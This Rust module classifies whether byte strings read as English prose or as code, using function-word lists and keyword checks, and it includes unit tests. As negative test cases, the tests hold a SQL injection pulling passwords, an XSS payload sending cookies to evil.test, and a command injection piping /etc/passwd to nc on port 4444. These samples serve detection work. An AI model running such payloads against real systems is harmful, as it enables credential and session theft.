//! Telling prose from code: sentences mention code more often than they are code.

use crate::bytes::{before, has_any, head, is_one_of, tail};

/// Words that are common in sentences and rare in code.
const FUNCTION_WORDS: &[&str] = &[
    "the", "of", "to", "that", "it", "was", "with", "you", "this", "be", "are", "have", "but", "they", "we",
    "can", "will", "would", "there", "their", "what", "about", "which", "when", "your", "has", "been",
    "should", "could", "how", "than", "i", "my", "me", "he", "she", "our", "us", "do", "does", "did", "use",
    "using", "an", "for", "at", "so", "le", "la", "der", "die", "und", "que", "only", "more", "also", "no",
    "its", "may", "these", "some", "into", "a", "is", "if", "as",
];

/// Whether a value reads like sentences: mostly letters, enough words, and function words between them.
pub(crate) fn is_prose(value: &[u8]) -> bool {
    const SHORTEST: usize = 30;
    const INSPECTED: usize = 2000;
    if value.len() < SHORTEST {
        return false;
    }
    let value = head(value, INSPECTED);
    let letters = value.iter().filter(|b| b.is_ascii_alphabetic() || **b == b' ' || **b >= 0x80).count();
    if letters * 100 < value.len() * 70 {
        return false;
    }
    let (mut words, mut function_words) = (0, 0);
    for word in value.split(|b| b.is_ascii_whitespace()) {
        let word = word.strip_suffix(b",").or(word.strip_suffix(b".")).unwrap_or(word);
        if word.is_empty()
            || !word.iter().all(|b| b.is_ascii_alphabetic() || matches!(b, b'\'' | b'-' | 0x80..))
        {
            continue;
        }
        words += 1;
        function_words += usize::from(is_one_of(word, FUNCTION_WORDS));
    }
    words >= 6 && function_words >= 2 && function_words * 12 >= words
}

/// Words of sentences that code has, too.
const JOINING_WORDS: &[&str] =
    &["in", "on", "and", "or", "not", "by", "from", "then", "don't", "it's", "can't", "won't"];

/// Words that a word may follow in JavaScript.
const SCRIPT_KEYWORDS: &[&str] = &[
    "var",
    "let",
    "const",
    "return",
    "new",
    "typeof",
    "void",
    "delete",
    "in",
    "of",
    "instanceof",
    "await",
    "async",
    "yield",
    "throw",
    "case",
    "else",
    "do",
    "function",
    "class",
    "import",
    "export",
    "from",
    "as",
    "extends",
    "static",
    "get",
    "set",
    "debugger",
    "default",
];

/// Words that a word may follow in other languages.
const KEYWORDS: &[&str] = &[
    "and",
    "or",
    "xor",
    "not",
    "is",
    "if",
    "elif",
    "for",
    "while",
    "unless",
    "until",
    "then",
    "begin",
    "end",
    "lambda",
    "def",
    "print",
    "echo",
    "puts",
    "raise",
    "assert",
    "with",
    "del",
    "except",
    "rescue",
    "ensure",
    "pass",
    "global",
    "goto",
    "clone",
    "include",
    "require",
    "include_once",
    "require_once",
    "public",
    "private",
    "protected",
    "abstract",
    "final",
    "implements",
    "namespace",
    "module",
];
/// Functions that are called without parentheses, too.
const FUNCTIONS: &[&str] = &["eval", "exec", "system"];

/// Whether a text around quoted code has words of its own: three, or two of a sentence.
pub(crate) fn speaks(text: &[u8]) -> bool {
    let trimmed = |word: &'_ [u8]| word.iter().rev().take_while(|b| b",.:;!?".contains(b)).count();
    let words = text
        .split(|b| b.is_ascii_whitespace())
        .map(|word| head(word, word.len() - trimmed(word)))
        .filter(|word| word.len() > 1 && word_length(word) == word.len());
    let (count, joining) = words.fold((0, 0), |(count, joining), word| {
        let joins = is_one_of(word, FUNCTION_WORDS) || is_one_of(word, JOINING_WORDS);
        (count + 1, joining + usize::from(joins))
    });
    count > 2 || count > 1 && joining > 0
}

/// Whether a value has nothing but words and names, with two words of sentences among them.
pub(crate) fn is_spoken(text: &[u8]) -> bool {
    let is_plain = |b: &u8| b.is_ascii_alphanumeric() || b" \t\r\n,.:!?/_-'\"()".contains(b) || *b >= 0x80;
    let joining = |word: &&[u8]| is_one_of(word, FUNCTION_WORDS) || is_one_of(word, JOINING_WORDS);
    text.iter().all(is_plain)
        && text.split(|b| b.is_ascii_whitespace()).filter(joining).count() > 1
        && speaks(text)
}

/// Whether a value is a sentence that no language runs: two words in a row outside of brackets and quotes, of which none
/// is a keyword, with a word of sentences among all; every bracket and quote closed; nothing that begins a comment, a
/// pattern or another kind of string, in which words may stand, or an expression within a string. If the value lands in a
/// string, what it quotes is code and the rest is not; so there may be nothing in quotes that runs. `is_script` is for
/// JavaScript alone.
pub(crate) fn is_sentence(value: &[u8], is_script: bool) -> bool {
    const LONGEST: usize = 4000;
    let begins = value.first().is_some_and(u8::is_ascii_alphabetic);
    if !begins
        || value.len() > LONGEST
        || value.iter().any(|b| b.is_ascii_control() || b"#%`/\\".contains(b) || *b == b'$' && !is_script)
        || has_any(value, &["--", "__", "<<", "?>", "${", "{{", "\"\"\"", "'''", "\u{2028}", "\u{2029}"])
    {
        return false;
    }
    let (mut depth, mut quote) = (0_usize, None);
    let (mut joins, mut follows) = (false, false);
    // Where the last word ended, if a word may follow it.
    let mut last: Option<usize> = None;
    let mut at = 0;
    while let Some(byte) = value.get(at).copied() {
        at += 1;
        match byte {
            _ if quote == Some(byte) => quote = None,
            b if quote.is_some() && (b.is_ascii_alphanumeric() || b" <>._-".contains(&b)) => {}
            _ if quote.is_some() => return false,
            b'"' | b'\'' => quote = Some(byte),
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => match depth.checked_sub(1) {
                Some(outer) => depth = outer,
                None => return false,
            },
            b if b.is_ascii_alphabetic() => {
                let start = at - 1;
                at = start + word_length(tail(value, start));
                let word = value.get(start..at).unwrap_or_default();
                if depth > 0 || before(value, start).is_some_and(|b| !b.is_ascii_whitespace()) {
                    last = None;
                    continue;
                }
                joins |= is_one_of(word, FUNCTION_WORDS) || is_one_of(word, JOINING_WORDS);
                let is_word = !is_keyword(word, is_script);
                let gap = last.and_then(|end| value.get(end..start)).unwrap_or_default();
                follows |= is_word && !gap.is_empty() && gap.iter().all(|b| *b == b' ');
                last = (is_word && (is_script || !is_one_of(word, FUNCTIONS))).then_some(at);
            }
            _ => {}
        }
    }
    follows && joins && depth == 0 && quote.is_none()
}

fn is_keyword(word: &[u8], is_script: bool) -> bool {
    is_one_of(word, SCRIPT_KEYWORDS) || !is_script && is_one_of(word, KEYWORDS)
}

/// The length of the word at the start: letters, and what is contracted with them, as in "don't".
fn word_length(text: &[u8]) -> usize {
    const CONTRACTED: &[&str] = &["t", "s", "m", "d", "re", "ve", "ll"];
    let letters = |text: &[u8]| text.iter().take_while(|b| b.is_ascii_alphabetic()).count();
    let length = letters(text);
    let Some(behind) = tail(text, length).strip_prefix(b"'") else { return length };
    let suffix = letters(behind);
    // Two letters before a quote may say which kind of string it opens; those have no vowel.
    let is_word = length > 1 && head(text, length).iter().any(|b| b"aeiouyAEIOUY".contains(b));
    let is_contracted = is_word && is_one_of(head(behind, suffix), CONTRACTED);
    if is_contracted { length + 1 + suffix } else { length }
}

/// Whether a text has words of some length, as sentences have.
pub(crate) fn has_words(text: &[u8]) -> bool {
    let words = text.split(|b| !b.is_ascii_alphabetic()).filter(|word| word.len() > 2).count();
    words > 1 || (words > 0 && text.contains(&b' '))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sentences_are_prose_and_code_is_not() {
        for text in [
            "You can use SELECT * FROM users WHERE id = 1 to see what is in the table.",
            "The <script> tag is used to embed JavaScript in a page, and it should be closed.",
            "Please run rm -rf node_modules and then you can install the packages again.",
        ] {
            assert!(is_prose(text.as_bytes()), "{text}");
        }
        for text in [
            "1 UNION SELECT username, password FROM users WHERE id = 1 and a in (select 1)",
            "<script>document.location='http://evil.test/?c='+document.cookie</script>",
            "; cat /etc/passwd | nc 10.0.0.1 4444 ; sleep 10 ; id",
            "O'Brien",
        ] {
            assert!(!is_prose(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn sentences_are_no_programs() {
        for text in [
            "don't use eval(); it's slow",
            "Explain eval(compile(src, '<string>', 'exec')) in Python",
            "mongo: db.users.find({ age: { $gt: 18 } }) is slow",
            "why does alert(1) show a window",
        ] {
            assert!(is_sentence(text.as_bytes(), true), "{text}");
        }
        for text in [
            "eval(x)",
            "return eval(x) in y",
            "eval(x); // it is slow",
            "eval(x); / it is slow/",
            "eval(x) # it is slow",
            "eval(x); 'it is slow'",
            "eval(x, \"\"\"a\" it is slow \"b\"\"\")",
            "eval(b'it is slow')",
            "eval(x) + (it is slow)",
            "it is' + eval(x) + '",
            "it is '+eval(x)+' a",
            "it is (' + eval(x) + ')",
            "it is slow\neval(x)",
            "it is); eval(x",
            "'; it is slow",
            "it is slow ?> <b>",
            "new name",
            "",
        ] {
            assert!(!is_sentence(text.as_bytes(), true), "{text}");
        }
        // What follows a word in one language does not in another.
        for text in ["echo eval(x) in a", "require it", "x is slow"] {
            assert!(!is_sentence(text.as_bytes(), false), "{text}");
        }
    }
}
